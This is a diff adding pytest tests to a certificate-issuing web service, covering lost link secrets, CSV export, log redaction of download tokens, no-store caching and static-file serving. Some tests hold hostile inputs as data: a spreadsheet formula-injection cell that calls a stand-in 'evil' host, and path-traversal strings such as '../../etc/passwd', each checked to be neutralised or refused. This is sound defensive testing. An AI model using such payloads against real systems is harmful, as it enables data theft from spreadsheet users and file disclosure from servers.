@@ -10,8 +10,10 @@ options reaching the PDF, and cached PDFs served without rendering.
 
 from __future__ import annotations
 
+import csv
 import io
 import json
+import logging
 import os
 import re
 import threading
@@ -30,9 +32,10 @@ from sqlalchemy import update
 from sqlmodel import col, select
 
 import issuer.pdf
-from issuer import printing
+from issuer import learner_page, printing
 from issuer.app import create_app
 from issuer.batch_render import render_programme
+from issuer.certificate import CertificateRenderError
 from issuer.cli import cli
 from issuer.db import transaction
 from issuer.demo import run_demo
@@ -41,13 +44,18 @@ from issuer.download_links import (
     REGENERATE_ACTION,
     TOKEN_LENGTH,
     CohortLink,
+    RedactLinks,
     cohort_links,
     download_token,
+    links_csv,
+    redact_link,
     token_hash,
 )
+from issuer.errors import ServiceError
+from issuer.i18n import t
 from issuer.issuance import IssuedCredential, issue_programme, reissue
 from issuer.keystore import KeyStore, KeyStoreError, Passphrase
-from issuer.learner_page import CONTENT_SECURITY_POLICY
+from issuer.learner_page import CONTENT_SECURITY_POLICY, STATIC_NAMES
 from issuer.link_secret import FILE_NAME, link_secret
 from issuer.lookup import find_credential
 from issuer.models import AuditEntry, Credential
@@ -646,3 +654,137 @@ def test_the_pdf_cache_keeps_the_recently_used_within_its_bound(tmp_path: Path) 
         cache.get("../../etc/passwd")
     with pytest.raises(ValueError, match="whole PDF"):
         cache.put(keys[0], b"not a pdf")
+
+
+# -- a lost or different link secret never silently breaks handed-out links ------------------------
+
+
+def _hashes(service: Service) -> dict[str, str | None]:
+    with transaction(service.engine, write=False) as session:
+        return {c.certificate_number: c.download_token_hash for c in session.exec(select(Credential))}
+
+
+def test_a_missing_link_secret_is_an_error_once_links_exist(
+    service: Service, issued: list[IssuedCredential], tmp_path: Path
+) -> None:
+    before = _hashes(service)
+    assert all(before.values())
+    (service.settings.keys_dir / FILE_NAME).rename(tmp_path / "saved-secret.json")
+    fresh = make_service(service.settings.database_url, service.settings.keys_dir)  # nothing cached
+    try:
+        with pytest.raises(ServiceError) as refused:
+            cohort_links(fresh, CODE)
+        assert refused.value.status == 503
+        assert "restore it from the backup" in str(refused.value.detail.render("en"))
+        assert not (service.settings.keys_dir / FILE_NAME).exists()  # no new secret was made
+        assert _hashes(fresh) == before
+        result = CliRunner().invoke(cli, ["links", "--programme", CODE], env=cli_env(service))
+        assert result.exit_code != 0
+        assert "restore it from the backup" in result.output
+        assert "Traceback" not in result.output
+    finally:
+        fresh.close()
+
+
+def test_links_made_with_another_secret_are_refused_not_replaced(
+    service: Service, issued: list[IssuedCredential], tmp_path: Path
+) -> None:
+    before = _hashes(service)
+    other_keys = tmp_path / "other-keys"
+    link_secret(KeyStore(other_keys, Passphrase(TEST_PASSPHRASE), scrypt_n=2**10))  # another secret
+    (other_keys / FILE_NAME).replace(service.settings.keys_dir / FILE_NAME)
+    fresh = make_service(service.settings.database_url, service.settings.keys_dir)
+    try:
+        with pytest.raises(ServiceError) as refused:
+            cohort_links(fresh, CODE)
+        assert refused.value.status == 409
+        assert refused.value.kind == "link-secret-mismatch"
+        assert _hashes(fresh) == before
+    finally:
+        fresh.close()
+
+
+def test_the_first_secret_is_made_while_no_link_exists(service: Service) -> None:
+    seed(service)
+    assert not (service.settings.keys_dir / FILE_NAME).exists()
+    issue_programme(service, CODE, actor="registrar")
+    assert (service.settings.keys_dir / FILE_NAME).stat().st_mode & 0o777 == 0o600
+
+
+# -- what could leak a link or break a download ----------------------------------------------------
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_written_as_text() -> None:
+    row = CohortLink("N-1", "+86123", '=HYPERLINK("http://evil/?"&F2,"x")', "valid", "https://v", "https://d")
+    text = links_csv([row]).decode("utf-8-sig")
+    cells = next(csv.reader(io.StringIO(text.splitlines()[1])))
+    assert cells[1] == "'+86123"
+    assert cells[2] == '\'=HYPERLINK("http://evil/?"&F2,"x")'
+    assert cells[0] == "N-1"  # ordinary text is unchanged
+
+
+def test_the_cli_writes_the_links_file_for_its_owner_only(
+    service: Service, issued: list[IssuedCredential], tmp_path: Path
+) -> None:
+    out = tmp_path / "links.csv"
+    result = CliRunner().invoke(cli, ["links", "--programme", CODE, "--out", str(out)], env=cli_env(service))
+    assert result.exit_code == 0, result.output
+    assert out.stat().st_mode & 0o777 == 0o600
+
+
+def test_a_file_that_cannot_be_made_is_a_503_page_and_the_log_never_has_the_link(
+    service: Service,
+    issued: list[IssuedCredential],
+    client: TestClient,
+    monkeypatch: pytest.MonkeyPatch,
+    caplog: pytest.LogCaptureFixture,
+) -> None:
+    link = path(links(service)[issued[0].certificate_number].download_url)
+
+    def broken(*_: object) -> bytes:
+        raise CertificateRenderError(t("the font is missing"))
+
+    monkeypatch.setattr(learner_page, "certificate_pdf", broken)
+    with caplog.at_level(logging.ERROR):
+        answer = client.get(f"{link}/certificate.pdf")
+    assert answer.status_code == 503
+    assert_private(answer)
+    assert "暂不可用" in answer.text
+    token = link.rsplit("/", 1)[1]
+    assert issued[0].certificate_number in caplog.text
+    assert token not in caplog.text
+    assert client.get(f"{link}/credential.json").status_code == 200  # the other files still come
+
+
+def test_access_log_lines_mask_the_link() -> None:
+    record = logging.LogRecord(
+        "uvicorn.access", logging.INFO, __file__, 1, '%s - "%s %s HTTP/%s" %d',
+        ("127.0.0.1:5000", "GET", "/c/dWv3z1K5EhKOo4nb-Otrhk/certificate.pdf", "1.1", 200), None,
+    )  # fmt: skip
+    assert RedactLinks().filter(record)
+    assert "dWv3z1K5EhKOo4nb-Otrhk" not in record.getMessage()
+    assert "/c/…/certificate.pdf" in record.getMessage()
+    assert redact_link("/c/static/download.css?v=1") == "/c/static/download.css?v=1"
+    assert redact_link("/verify") == "/verify"
+
+
+def test_one_link_from_the_api_is_never_cached(
+    service: Service, issued: list[IssuedCredential], client: TestClient
+) -> None:
+    headers = token(service, "registrar")
+    number = issued[0].certificate_number
+    answer = client.get(f"/api/credentials/{number}/download-link", headers=headers)
+    assert answer.status_code == 200, answer.text
+    assert answer.headers["cache-control"] == "no-store"
+    replaced = client.post(
+        f"/api/credentials/{number}/download-link", headers=headers, json={"reason": "leaked"}
+    )
+    assert replaced.status_code == 200, replaced.text
+    assert replaced.headers["cache-control"] == "no-store"
+
+
+def test_only_the_pages_own_style_sheets_are_served(client: TestClient) -> None:
+    assert client.get("/c/static/download.css").status_code == 200
+    for name in ("nope.css", "..%2Fapp.py", ".hidden.css", "download.css.map"):
+        assert client.get(f"/c/static/{name}").status_code == 404
+    assert {"download.css"} == STATIC_NAMES
